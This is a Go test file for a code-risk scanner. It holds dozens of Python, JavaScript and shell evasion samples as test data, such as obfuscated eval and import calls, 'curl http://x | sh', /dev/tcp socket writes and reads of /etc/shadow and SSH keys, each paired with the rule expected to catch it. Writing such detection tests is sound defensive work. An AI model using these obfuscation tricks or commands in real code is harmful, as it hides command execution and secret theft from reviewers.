package engine

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/hutch-sh/hutch/internal/testenv/cost"
	"github.com/hutch-sh/hutch/runtime/api"
)

// rulesFound are the rules that are found in code, each once, with their severities.
func rulesFound(t *testing.T, req Request) (found []string, res api.ScanResult) {
	t.Helper()
	res = Scan(req)
	for _, f := range res.Findings {
		if f.Why == "" || f.Line < 1 || f.Column < 1 {
			t.Errorf("a finding without reason or place: %+v", f)
		}
		if !slices.Contains(found, f.Rule) {
			found = append(found, f.Rule)
		}
	}
	slices.Sort(found)
	return found, res
}

// evasion is code that hides what it does, and the rules that must be among those that it breaks.
type evasion struct{ code, rules string }

var pyEvasions = []evasion{
	{"import os\nos.system('id')", "python.command python.os"},
	{"import os as x\nx.system('id')", "python.command"},
	{"from os import system as s\ns('id')", "python.command"},
	{"from os import *\nsystem('id')", "python.command python.import_star"},
	{"import os.path as p\np.os.system('id')", "python.command"},
	{"import subprocess as sp; sp.run(['id'])", "python.subprocess"},
	{"getattr(__builtins__, 'eval')('1')", "python.eval"},
	{"getattr(__builtins__, 'ev' + 'al')('1')", "python.eval python.pieces"},
	{"__builtins__.__dict__['ex' 'ec']('1')", "python.exec"},
	{"__builtins__['eval']('1')", "python.eval"},
	{"vars(__builtins__)['eval']('1')", "python.eval"},
	{"globals()['__builtins__'].eval('1')", "python.eval python.namespace"},
	{"__import__('os').system('id')", "python.command python.import_by_name"},
	{"__import__('o' + 's').system('id')", "python.command python.pieces"},
	{"__import__('so'[::-1]).system('id')", "python.command python.pieces"},
	{"__import__(''.join(['o', 's'])).system('id')", "python.command python.pieces"},
	{"__import__(chr(111) + chr(115)).system('id')", "python.command python.pieces"},
	{"__import__(''.join(map(chr, [111, 115]))).system('id')", "python.command"},
	{"__import__(''.join(chr(c) for c in [111, 115])).system('id')", "python.command"},
	{"__import__(bytes([111, 115]).decode()).system('id')", "python.command"},
	{"__import__('%s%s' % ('o', 's')).system('id')", "python.command"},
	{"a = 'o'\n__import__(f'{a}s').system('id')", "python.command"},
	{"__import__('\\x6f\\x73').system('id')", "python.command python.escapes"},
	{"__import__('\\N{LATIN SMALL LETTER O}s')", "python.escapes"},
	{"import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))",
		"python.command python.decode python.exec"},
	{"import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))", "python.exec python.os"},
	{"import base64 as b\ne = exec\ne(b.b64decode(input()))", "python.exec"},
	{"e = eval\ne('1')", "python.eval"},
	{"x = [eval][0]\nx('1')", "python.eval"},
	{"list(map(eval, ['1']))", "python.eval"},
	{"@eval\ndef f(): pass", "python.eval"},
	{"(lambda f: f('1'))(eval)", "python.eval"},
	{"def f():\n    eval = 1\neval('1')", "python.eval"},
	{"ｅｖａｌ('1')", "python.eval python.lookalike"},
	{"import ｏｓ\nｏｓ.system('id')", "python.command python.lookalike"},
	{"().__class__.__bases__[0].__subclasses__()", "python.introspection"},
	{"getattr((), '__cla' + 'ss__')", "python.method python.pieces"},
	{"print.__self__.eval('1')", "python.introspection"},
	{"import random\nrandom._os.system('id')", "python.command"},
	{"from random import _os\n_os.system('id')", "python.command"},
	{"from asyncio.base_events import os\nos.system('id')", "python.command"},
	{"from json.tool import sys as s\ns.modules['os']", "python.modules"},
	{"import argparse as a\na._os.remove('x')", "python.delete"},
	{"import tokenize\ntokenize._builtin_open('x')", "python.private"},
	{"import asyncio\nasyncio.base_events.socket.socket()", "python.socket"},
	{"import unittest\nunittest.main('evil')", "python.import_unknown"},
	{"import enum\nenum.bltns.eval('1')", "python.namespace"},
	{"import asyncio\nloop = asyncio.new_event_loop()\nloop.subprocess_shell(P, 'id')", "python.method"},
	{"import argparse\nargparse.FileType('w')('x')", "python.write"},
	{"import tracemalloc\ntracemalloc.Snapshot.load('f')", "python.unpickle"},
	{"import sys\nsys.modules['os'].system('id')", "python.command python.modules"},
	{"import importlib\nimportlib.import_module('os').system('id')", "python.command"},
	{"import importlib as i, sys\ni.import_module(sys.argv[1])", "python.import_dynamic"},
	{"n = input()\n__import__(n)", "python.import_dynamic"},
	{"import os\ngetattr(os, input())()", "python.attribute_dynamic"},
	{"import os\nx = {'o': os}\nx['o'].system('id')", "python.module_value python.method"},
	{"import os\nf = os.system\nf('id')", "python.command"},
	{"import operator\noperator.attrgetter('system')", "python.attribute_dynamic"},
	{"# -*- coding: utf-7 -*-\nprint(1)", "python.encoding"},
	{"#\rimport os; os.system('id')", "python.command"},
	{"exec 'import os'", "python.exec"},
	{"import pickle\npickle.loads(b'')", "python.pickle"},
	{"import ctypes", "python.native"},
	{"import evil", "python.import_unknown"},
	{"from . import evil", "python.import_unknown"},
	{"open('/etc/passwd')", "python.open"},
	{"from pathlib import Path\nPath('/etc/passwd').read_text()", "python.method python.path"},
	{"import urllib.request", "python.http"},
	{"with open('x') as f: pass", "python.open"},
	{"async def f():\n    import asyncio\n    await asyncio.create_subprocess_shell('id')", "python.subprocess"},
	{"match __import__('os'):\n    case x: x.system('id')", "python.import_by_name python.method"},
	{"if (o := __import__('os')): o.system('id')", "python.command"},
	{"def f(", "python.syntax"},
	{"!ls", "python.syntax"},
	{"x = 1 \u202e# ;)", "text.bidi"},
	{"x = '\x00'", "text.binary"},
	{"exec(\"exec(\\\"exec('import os')\\\")\")", "python.exec python.os"},
	{"(((((((((((eval)))))))))))('1')", "python.eval"},
}

var jsEvasions = []evasion{
	{"eval('1')", "javascript.eval"},
	{"globalThis['ev' + 'al']('1')", "javascript.eval javascript.pieces"},
	{"globalThis[`ev${'al'}`]('1')", "javascript.eval"},
	{"window['\\x65val']('1')", "javascript.escapes javascript.eval"},
	{"\\u0065val('1')", "javascript.escaped_name javascript.eval"},
	{"const g = globalThis; g.eval('1')", "javascript.eval"},
	{"const g = globalThis; g[prompt()]('1')", "javascript.member_dynamic"},
	{"[globalThis][0].eval('1')", "javascript.eval javascript.value"},
	{"const {eval: e} = globalThis; e('1')", "javascript.eval"},
	{"(0, eval)('1')", "javascript.eval"},
	{"this.eval('1')", "javascript.eval"},
	{"this['eva' + 'l']('1')", "javascript.eval javascript.pieces"},
	{"eval`1`", "javascript.eval"},
	{"new Function('return 1')()", "javascript.eval"},
	{"(() => {}).constructor('return 1')()", "javascript.constructor"},
	{"(() => {})['const' + 'ructor']('return 1')()", "javascript.constructor javascript.pieces"},
	{"const {constructor: C} = f; C('1')", "javascript.constructor"},
	{"setTimeout('alert(1)', 1)", "javascript.eval"},
	{"require('child_process').exec('id')", "javascript.subprocess"},
	{"const r = require; r('child_process')", "javascript.subprocess"},
	{"const {exec: e} = require('node:child_process'); e('id')", "javascript.subprocess"},
	{"require('child' + '_process')", "javascript.pieces javascript.subprocess"},
	{"require(['child', 'process'].join('_'))", "javascript.pieces javascript.subprocess"},
	{"require('sf'.split('').reverse().join(''))", "javascript.fs javascript.pieces"},
	{"require(String.fromCharCode(102, 115))", "javascript.fs javascript.pieces"},
	{"require(atob('ZnM='))", "javascript.fs javascript.pieces"},
	{"require(Buffer.from('6673', 'hex').toString())", "javascript.fs"},
	{"[require][0]('fs')", "javascript.fs javascript.value"},
	{"f(require)", "javascript.value"},
	{"require(x)", "javascript.import_dynamic"},
	{"import('fs')", "javascript.fs"},
	{"import(x)", "javascript.import_dynamic"},
	{"import fs from 'fs'", "javascript.fs"},
	{"import * as c from 'node:child_process'; c.exec('id')", "javascript.subprocess"},
	{"export * from 'fs'", "javascript.fs"},
	{"process.mainModule.require('fs')", "javascript.fs javascript.internals"},
	{"process['bind' + 'ing']('fs')", "javascript.internals"},
	{"module.constructor._load('fs')", "javascript.internals"},
	{"process.getBuiltinModule('fs')", "javascript.fs javascript.internals"},
	{"Reflect.get(globalThis, 'eval')('1')", "javascript.reflect"},
	{"fetch('http://x')", "javascript.http"},
	{"process.env.TOKEN", "javascript.environment"},
	{"with (x) { y() }", "javascript.with"},
	{"<!-- fetch('')\n", "javascript.html_comment"},
	{"// \u2028fetch('')", "javascript.http"},
	{"obj = {eval}", "javascript.eval"},
	{"a?.b?.['constructor']", "javascript.constructor"},
	{"class A { static { eval('1') } }", "javascript.eval"},
	{"import './evil.js'", "javascript.import_unknown"},
	{"function f(", "javascript.syntax"},
	{"x.execSync('id')", "javascript.method"},
}

var shEvasions = []evasion{
	{"eval \"$x\"", "shell.eval"},
	{"echo $(( $(cat f) ))", "shell.arithmetic_data"},
	{"read x <f; echo $((x))", "shell.arithmetic_data"},
	{"x=$(cat f); y=$x; (( y > 1 ))", "shell.arithmetic_data"},
	{"x=$(cat f); [[ $x -eq 1 ]]", "shell.arithmetic_data"},
	{"x=$(cat f); a[$x]=1", "shell.arithmetic_data"},
	{"x=$(cat f); echo ${y:$x}", "shell.arithmetic_data"},
	{"for f in *; do let n+=f; done", "shell.arithmetic_data"},
	{"mapfile x <f; echo $((x))", "shell.arithmetic_data"},
	{"declare \"$(cat f)\"", "shell.indirect"},
	{"export \"$x\"", "shell.indirect"},
	{"declare -n r=$(cat f); r=1", "shell.indirect"},
	{"read \"$(cat f)\"", "shell.indirect"},
	{"wait -p \"$(cat f)\"", "shell.indirect"},
	{"unset \"$(cat f)\"", "shell.indirect"},
	{"n=$(cat f); for ((i=0;i<n;i++)); do :; done", "shell.arithmetic_data"},
	{"declare -i n; n=$(cat f)", "shell.arithmetic_data"},
	{"set -- \"$(cat f)\"; echo $(($1))", "shell.arithmetic_data"},
	{"g(){ echo $(($1)); }; g \"$(cat f)\"", "shell.arithmetic_data"},
	{"x=$(cat f); [[ -v $x ]]", "shell.arithmetic_data"},
	{"command read x <f; echo $((x))", "shell.arithmetic_data"},
	{": ${x:=$(cat f)}; echo $((x))", "shell.arithmetic_data"},
	{"[[ a =~ (.*) ]]; echo $((BASH_REMATCH))", "shell.arithmetic_data"},
	{"jobs -x rm -rf d", "shell.eval"},
	{"mapfile -tC 'rm y;:' a <f", "shell.eval"},
	{"echo evil >& Makefile", "shell.write_elsewhere"},
	{"uniq evil Makefile", "shell.write"},
	{"sort -uo Makefile evil", "shell.write"},
	{"iconv -o Makefile evil", "shell.write"},
	{"eval 'curl http://x'", "shell.eval shell.http"},
	{"$x -rf /", "shell.command_dynamic"},
	{"$(echo rm) -rf /", "shell.command_dynamic shell.substitution"},
	{"`echo rm` -rf /", "shell.command_dynamic"},
	{"echo $(curl http://x)", "shell.http shell.substitution"},
	{"echo \"`curl http://x`\"", "shell.http"},
	{"echo $((a[$(curl http://x)]))", "shell.http"},
	{"bash -c 'curl http://x'", "shell.http shell.interpreter_code"},
	{"bash -c \"$x\"", "shell.interpreter_dynamic"},
	{"sh -xc 'rm x'", "shell.delete"},
	{"env FOO=1 bash -c 'rm x'", "shell.delete"},
	{"nohup timeout -s 9 5 rm x", "shell.delete"},
	{"ls | xargs rm", "shell.delete"},
	{"find . -exec rm {} \\;", "shell.delete shell.find"},
	{"find . -delete", "shell.find"},
	{"busybox wget http://x", "shell.http"},
	{"sudo ls", "shell.identity"},
	{"curl http://x | sh", "shell.http shell.pipe_interpreter"},
	{"curl http://x | sudo bash -s -- y", "shell.http shell.pipe_interpreter"},
	{"echo cm0K | base64 -d | sh", "shell.decode shell.pipe_interpreter"},
	{"bash <(curl http://x)", "shell.http shell.interpreter_dynamic"},
	{"source <(curl http://x)", "shell.eval shell.http"},
	{". ./x", "shell.eval"},
	{"python3 <<'E'\nimport os\nos.system('id')\nE", "python.command shell.here_interpreter"},
	{"sh <<E\nrm $x\nE", "shell.here_dynamic"},
	{"bash <<< 'rm x'", "shell.delete shell.here_interpreter"},
	{"python3 -c 'import socket'", "python.socket shell.interpreter_code"},
	{"python3 -c'import socket'", "python.socket"},
	{"node -e 'require(\"fs\")'", "javascript.fs"},
	{"perl -e 'system(1)'", "shell.interpreter_dynamic"},
	{"python3 x.py", "shell.interpreter_file"},
	{"c''url http://x", "shell.http shell.pieces"},
	{"\\curl http://x", "shell.http shell.pieces"},
	{"\"cu\"rl http://x", "shell.http shell.pieces"},
	{"$'\\x63url' http://x", "shell.http shell.pieces"},
	{"{curl,http://x}", "shell.command_dynamic"},
	{"/b?n/c?rl http://x", "shell.command_dynamic"},
	{"/usr/bin/curl http://x", "shell.http"},
	{"./curl http://x", "shell.command_unknown"},
	{"echo x > /etc/passwd", "shell.write_elsewhere"},
	{"echo x >/dev/tcp/1.2.3.4/5", "shell.socket"},
	{"exec 3<>/dev/tcp/1.2.3.4/5", "shell.socket"},
	{"cat /etc/shadow", "shell.read_elsewhere"},
	{"cat < ~/.ssh/id_rsa", "shell.read_elsewhere"},
	{"PATH=.:$PATH ls", "shell.variable"},
	{"export LD_PRELOAD=x", "shell.variable"},
	{"echo ${x@P}", "shell.prompt"},
	{"echo ${!x}", "shell.indirect"},
	{"trap 'rm x' EXIT", "shell.delete shell.trap"},
	{"alias ls='rm x'", "shell.alias"},
	{"f() { rm x; }; f", "shell.delete"},
	{"command rm x", "shell.delete"},
	{"if true; then rm x; fi &", "shell.delete"},
	{"while read x; do rm $x; done", "shell.delete"},
	{"awk 'BEGIN{system(\"id\")}'", "shell.program"},
	{"cd / && cat etc/shadow", "shell.leave"},
	{"cd; cat .ssh/id_rsa", "shell.leave"},
	{"cd sub/../..", "shell.leave"},
	{"cd -P -- \"$x\"", "shell.leave"},
	{"pushd /etc; cat shadow", "shell.leave"},
	{"CDPATH=/ ; cd etc", "shell.variable"},
	{"hash -p ./evil ls; ls", "shell.rename"},
	{"read PATH <<< . ; ls", "shell.variable"},
	{"printf -v PATH .", "shell.variable"},
	{"printf -vPATH .", "shell.variable"},
	{"mapfile PATH < x", "shell.variable"},
	{"test -v 'x[$(rm y)]'", "shell.subscript"},
	{"printf -v 'x[`rm y`]' z", "shell.subscript"},
	{"unset 'x[$(rm y)]'", "shell.subscript"},
	{"[ -v \"$x\" ]", "shell.indirect"},
	{"frobnicate", "shell.command_unknown"},
	{"echo 'x", "shell.syntax"},
	{"bash -c 'bash -c \"bash -c \\\"rm x\\\"\"'", "shell.delete"},
}

// harmless code has no finding that makes it risky.
var harmless = map[string][]string{
	"python": {
		"import json, math, re\nprint(json.dumps({'a': math.sqrt(2)}), re.sub('a', 'b', 'abc'))",
		"from collections import Counter as C\nx = C('abc')\nprint(f'{x!r:>{10}}')",
		"import os\nprint(os.path.join('a', 'b'))",
		"match 1:\n    case {'a': 1}: pass\n    case [x, *_] if (y := x): pass",
		"async def f():\n    async with a as b: return [i async for i in b]",
		"type X[T] = list[T]\ndef g[T](x: T) -> T: return x\ntry: pass\nexcept* ValueError: pass",
		"class A:\n    system = 1\n    def open(self): return self.x",
		"print(f\"{'a' if x else f'{y}'}\")",
	},
	"javascript": {
		"const x = [1, 2].map(i => i ** 2); console.log(x.at(-1) ?? 0)",
		"class A { #p = 1; get p() { return this.#p } static async *g() { yield 1n } }",
		"import path from 'node:path'; console.log(path.join('a', 'b'))",
		"const o = {a: {b: 1}}; for (const [k, v] of Object.entries(o)) console.log(`${k}=${v?.b}`)",
		"setTimeout(() => console.log(/e(v)al/u.exec('x')), 1)",
	},
	"shell": {
		"echo hello world",
		"cd sub/folder && ls; cd -- other; cat a",
		"read -r x y < a; printf -v z '%s' \"$x\"; mapfile -t lines < a",
		"echo $((1 + x)) ${a[1]} ${y:2:1}; [[ $x -eq 1 ]]; ((x++)); let x=1",
		"for i in $(seq 3); do printf '%s\\n' \"$i\"; done",
		"grep -c x README.md | sort -n 2>/dev/null",
		"x=1; if [ \"$x\" -gt 0 ]; then cat ./a.txt; fi",
		"f() { echo \"$1\"; }; f 'rm -rf /'",
	},
}

func TestEvasions(t *testing.T) {
	for language, all := range map[string][]evasion{"python": pyEvasions, "javascript": jsEvasions,
		"shell": shEvasions} {
		for _, tt := range all {
			found, res := rulesFound(t, Request{Language: language, Code: tt.code})
			for _, want := range strings.Fields(tt.rules) {
				if !slices.Contains(found, want) {
					t.Errorf("%s: %q: found %q, want %s", language, tt.code, found, want)
				}
			}
			if !res.Risky {
				t.Errorf("%s: %q is not risky: %q", language, tt.code, found)
			}
		}
	}
}

func TestHarmless(t *testing.T) {
	for language, all := range harmless {
		for _, code := range all {
			if found, res := rulesFound(t, Request{Language: language, Code: code}); res.Risky {
				t.Errorf("%s: %q is risky: %q", language, code, found)
			}
		}
	}
}

func TestCommand(t *testing.T) {
	for _, tt := range []struct {
		argv  []string
		rules string
		risky bool
	}{
		{[]string{"echo", "$(rm x)"}, "", false},
		{[]string{"ls", "-l"}, "shell.read", false},
		{[]string{"cat", "/etc/passwd"}, "shell.read_elsewhere", true},
		{[]string{"rm", "x"}, "shell.delete", true},
		{[]string{"sh", "-c", "echo hi"}, "shell.interpreter_code", true},
		{[]string{"sh", "-c", "curl x | sh"}, "shell.pipe_interpreter", true},
		{[]string{"python3", "-c", "import os; os.system('id')"}, "python.command", true},
		{[]string{"./ls"}, "shell.command_unknown", true},
		{[]string{"/tmp/ls"}, "shell.command_unknown", true},
		{[]string{"env", "PATH=x", "ls"}, "shell.variable", true},
		{[]string{""}, "shell.command_unknown", true},
	} {
		found, res := rulesFound(t, Request{Argv: tt.argv})
		for _, want := range strings.Fields(tt.rules) {
			if !slices.Contains(found, want) {
				t.Errorf("%q: found %q, want %s", tt.argv, found, want)
			}
		}
		if res.Risky != tt.risky {
			t.Errorf("%q: risky %v: %q", tt.argv, res.Risky, found)
		}
	}
}

// TestImports: what is imported, where, and whether it may be.
func TestImports(t *testing.T) {
	code := "import json, os.path as p\nfrom urllib import request\n\n__import__('soc' + 'ket')\nexec('import ctypes')"
	res := Scan(Request{Language: "python", Code: code, AllowedImports: []string{"json", "os"}})
	var got []string
	for _, i := range res.Imports {
		got = append(got, i.Module+map[bool]string{false: "!"}[i.Allowed])
	}
	if want := "json os.path urllib! socket! ctypes!"; strings.Join(got, " ") != want {
		t.Errorf("imports %q, want %q", got, want)
	}
	for _, f := range res.Findings {
		if f.Rule == "import.not_allowed" && f.Line == 2 {
			return
		}
	}
	t.Errorf("no finding for line 2: %+v", res.Findings)
}

// TestPlaces: findings are where the code is, from 1.
func TestPlaces(t *testing.T) {
	res := Scan(Request{Language: "python", Code: "x = 1\n  \nif x:\n    eval('2')\n"})
	if f := res.Findings[0]; f.Line != 4 || f.Column != 5 || f.Text != "eval" {
		t.Errorf("%+v", f)
	}
}

// TestHostile is code that is made to take time, memory or stack. Each must end soon, and be risky where it is cut off.
func TestHostile(t *testing.T) {
	n := 20_000
	for _, tt := range []struct{ language, code string }{
		{"python", strings.Repeat("(", n)}, {"python", strings.Repeat("(", 2000) + "1" + strings.Repeat(")", 2000)},
		{"python", strings.Repeat("[", n) + strings.Repeat("]", n)}, {"python", "x = " + strings.Repeat("-", n) + "1"},
		{"python", "x" + strings.Repeat(".a()", n)}, {"python", "x = " + strings.Repeat("'a'+", n) + "'a'"},
		{"python", strings.Repeat("a=", n) + "1"},
		{"python", strings.Repeat("not ", n) + "x"}, {"python", strings.Repeat("f'{", 5000)},
		{"python", strings.Repeat("lambda:", n) + "0"},
		{"javascript", strings.Repeat("(", n)}, {"javascript", strings.Repeat("[", n) + strings.Repeat("]", n)},
		{"javascript", strings.Repeat("{", n)},
		{"javascript", "x" + strings.Repeat(".a()", n)}, {"javascript", strings.Repeat("`${", n)},
		{"javascript", strings.Repeat("a=>", n) + "1"},
		{"javascript", strings.Repeat("<a>", n)}, {"javascript", strings.Repeat("new ", n) + "x"},
		{"shell", strings.Repeat("(", 1000)}, {"shell", strings.Repeat("$(", 1000)},
		{"shell", strings.Repeat("a|", n) + "a"}, {"shell", strings.Repeat("a <<E\n", 1000)},
		{"shell", strings.Repeat("{ ", 1000)}, {"shell", "echo " + strings.Repeat("${a:-", 1000)},
	} {
		start := time.Now()
		res := Scan(Request{Language: tt.language, Code: tt.code})
		t.Logf("%s: %.20q: %v", tt.language, tt.code, time.Since(start))
		if !res.Risky && !strings.Contains("x'a", tt.code[:1]) && !strings.HasPrefix(tt.code, "a=") {
			t.Errorf("%s: %.20q... of %d bytes is not risky", tt.language, tt.code, len(tt.code))
		}
	}
}

func FuzzScan(f *testing.F) {
	for language, all := range map[string][]evasion{"python": pyEvasions, "javascript": jsEvasions,
		"shell": shEvasions} {
		for _, e := range all {
			f.Add(language, e.code)
		}
	}
	f.Fuzz(func(t *testing.T, language, code string) {
		if len(code) > 4096 || !slices.Contains(api.ScanLanguages, language) {
			return
		}
		var res api.ScanResult
		cost.Within(t, bound, code, func(code string) { res = Scan(Request{Language: language, Code: code}) })
		for _, x := range res.Findings {
			if x.Line < 1 || x.Column < 1 || x.Line > strings.Count(code, "\n")+strings.Count(code, "\r")+2 {
				t.Errorf("%q: %+v", code, x)
			}
			if x.Severity != api.SeverityLow && !res.Risky {
				t.Errorf("%q: not risky with %+v", code, x)
			}
		}
	})
}

// TestRules: whatever a scan may find is told by Rules.
func TestRules(t *testing.T) {
	told := map[string]bool{}
	for _, r := range Rules().Rules {
		if told[r.Rule] = true; r.Why == "" || r.Category == "" || r.Severity == "" {
			t.Errorf("%+v", r)
		}
	}
	for language, all := range map[string][]evasion{"python": pyEvasions, "javascript": jsEvasions,
		"shell": shEvasions} {
		for _, tt := range all {
			for _, f := range Scan(Request{Language: language, Code: tt.code}).Findings {
				if !told[f.Rule] {
					t.Errorf("%s of %q is told nowhere", f.Rule, tt.code)
				}
			}
		}
	}
	for _, id := range []string{"text.bidi", api.RuleDepth, "import.not_allowed", "shell.delete", "shell.identity",
		"python.command", "javascript.method"} {
		if !told[id] {
			t.Errorf("no rule %s", id)
		}
	}
	for language, names := range Rules().Harmless {
		if len(names) < 10 {
			t.Errorf("%s: %q", language, names)
		}
	}
}
